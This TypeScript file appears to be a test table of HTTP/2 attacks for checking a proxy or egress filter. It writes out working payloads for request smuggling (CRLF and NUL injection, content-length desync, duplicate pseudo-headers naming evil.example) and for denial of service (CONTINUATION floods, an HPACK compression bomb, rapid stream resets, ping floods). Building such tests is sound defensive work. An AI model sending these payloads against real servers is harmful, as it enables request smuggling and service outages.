/** HTTP/2 by hand: floods, bombs, and frames that turn into something else when they are written as HTTP/1.1. */
import { either, flooded, requested, saw, type Attack, type AttackTable } from "../attack.ts";

const ended = { row: 14, told: /goaway|reset|\[end\]|Error|egress_refused|reached/ } as const;

/** A stream of one odd header block. */
const block = (name: string, python: string, pattern = /smuggled/): Attack => ({
  ...ended,
  name,
  python: `h2(HOST, ${python})`,
  succeeded: saw("host", pattern),
});

export const http2: AttackTable = {
  title: "HTTP/2",
  prefix: "h",
  attacks: [
    block("line break in a header", String.raw`fields(HOST, more=[("x", "y\r\nsmuggled: 1")])`),
    block("line break in the path", String.raw`fields(HOST, path="/ HTTP/1.1\r\nsmuggled: 1\r\nx: ")`),
    block("blank in the path", String.raw`fields(HOST, path="/smuggled HTTP/1.1 ")`, /smuggled HTTP/),
    block("line break in the method", String.raw`fields(HOST, method="GET /smuggled HTTP/1.1\r\nx: y")`),
    block("line break in the authority", String.raw`fields(HOST + "\r\nsmuggled: 1")`),
    block("zero byte in a header", String.raw`fields(HOST, more=[("smuggled", "a\x00b")])`),
    block("line break in a header's name", String.raw`fields(HOST, more=[("x: y\r\nsmuggled", "1")])`),
    block("upper case in a header's name", `fields(HOST, more=[("Smuggled", "1")])`, /smuggled/i),
    block(
      "Transfer-Encoding",
      `fields(HOST, method="POST", more=[("transfer-encoding", "chunked"), ("smuggled", "1")])`,
    ),
    block("Connection", `fields(HOST, more=[("connection", "keep-alive"), ("smuggled", "1")])`),
    block("authority twice", `fields(HOST, more=[(":authority", EVIL)])`, /\.evil\.example/),
    block("path twice", `fields(HOST, more=[(":path", "/smuggled")])`),
    block("pseudo header after others", `field("smuggled", "1") + fields(HOST)`),
    block("unknown pseudo header", `fields(HOST, more=[(":smuggled", "1")])`),
    block("empty path", `fields(HOST, path="", more=[("smuggled", "1")])`),
    block("path without slash", `fields(HOST, path="smuggled")`),
    block("other scheme", `fields(HOST, scheme="smuggled")`),
    {
      ...ended,
      name: "length that the body does not have",
      python: `
s = H2(HOST)
s.open(1, fields(HOST, method="POST", more=[("content-length", "3")]), end=False)
s.send(H2.frame(DATA, END_STREAM, 1, b"abcGET /smuggled HTTP/1.1\\r\\n\\r\\n"))
s.hear(until=1)`,
      succeeded: saw("host", /smuggled/),
    },
    {
      ...ended,
      name: "headers without end",
      python: `
s = H2(HOST)
s.send(H2.frame(HEADERS, 0, 1, fields(HOST, path="/flood")))
for i in range(200):
    s.quiet(H2.frame(CONTINUATION, 0, 1, field("x-%d" % i, "y" * 1000)))
s.quiet(H2.frame(CONTINUATION, END_HEADERS, 1, field("x", "y")))
s.hear(until=1)`,
      // The host itself breaks it off after some frames.
      succeeded: either(requested("host"), flooded("host", 4000)),
    },
    {
      ...ended,
      name: "empty continuations without end",
      python: `
s = H2(HOST)
s.send(H2.frame(HEADERS, 0, 1, fields(HOST, path="/flood")))
s.quiet(H2.frame(CONTINUATION, 0, 1) * 20000)
s.quiet(H2.frame(CONTINUATION, END_HEADERS, 1, field("x", "y")))
s.hear(until=1)`,
      succeeded: either(requested("host"), flooded("host")),
    },
    {
      ...ended,
      name: "compression bomb",
      python: String.raw`
s = H2(HOST)
big = b"\x40" + integer(1, 7, 0) + b"x" + integer(3900, 7, 0) + b"y" * 3900
s.send(H2.frame(HEADERS, 1 | 4, 1, fields(HOST, path="/bomb") + big + b"\xbe" * 16000))
s.hear(until=1)`,
      succeeded: either(requested("host"), flooded("host")),
    },
    {
      ...ended,
      name: "streams opened and reset without end",
      python: `
s = H2(HOST)
block = fields(HOST, path="/reset")
for i in range(3000):
    s.quiet(H2.frame(HEADERS, 5, 1 + 2 * i, block) + H2.frame(RST, 0, 1 + 2 * i, b"\\0\\0\\0\\x08"))
s.hear(wait=3)`,
      // Whole, it is 74 kB. A burst of resets is granted to clients that cancel much, and reaches the host.
      succeeded: flooded("host", 40_000),
      limit: 90_000,
    },
    {
      ...ended,
      name: "more streams than are granted",
      python: `
s = H2(HOST)
for i in range(400):
    s.quiet(H2.frame(HEADERS, 4, 1 + 2 * i, fields(HOST, path="/open", method="POST")))
s.hear(wait=3, until=300)`,
      succeeded: ({ outcome, listeners }) =>
        !/reset|goaway|\[end\]|Error/.test(outcome) && listeners.host.connections > 0
          ? "all streams were taken"
          : undefined,
    },
    {
      ...ended,
      name: "flood of pings",
      python: `
s = H2(HOST)
s.quiet(H2.frame(PING, 0, 0, b"12345678") * 50000)
s.open(1, fields(HOST, path="/after-flood"))
s.hear(wait=4, until=1, limit=100000)`,
      succeeded: ({ listeners }) =>
        listeners.host.bytes > 0 && listeners.host.requests.length === 0 ? "the flood reached the host" : undefined,
      told: /./,
    },
    {
      ...ended,
      name: "frame of another stream inside a header block",
      python: `
s = H2(HOST)
s.send(H2.frame(HEADERS, 0, 1, fields(HOST, path="/smuggled")))
s.quiet(H2.frame(DATA, 1, 3, b"x"))
s.quiet(H2.frame(CONTINUATION, 4, 1, field("x", "y")))
s.hear(until=1)`,
      succeeded: saw("host", /smuggled/),
    },
    {
      ...ended,
      name: "push from the client",
      python: String.raw`
s = H2(HOST)
s.open(1, fields(HOST), end=False)
s.quiet(H2.frame(PUSH, 4, 1, b"\0\0\0\x02" + fields(EVIL, path="/smuggled")))
s.hear(until=1)`,
      succeeded: saw("host", /smuggled/),
    },
    {
      ...ended,
      name: "frame longer than is granted",
      python: `
s = H2(HOST)
s.open(1, fields(HOST, path="/smuggled", method="POST"), end=False)
s.quiet(H2.frame(DATA, 1, 1, b"smuggled" * 10000))
s.hear(until=1)`,
      succeeded: saw("host", /smuggledsmuggled/),
    },
  ],
};
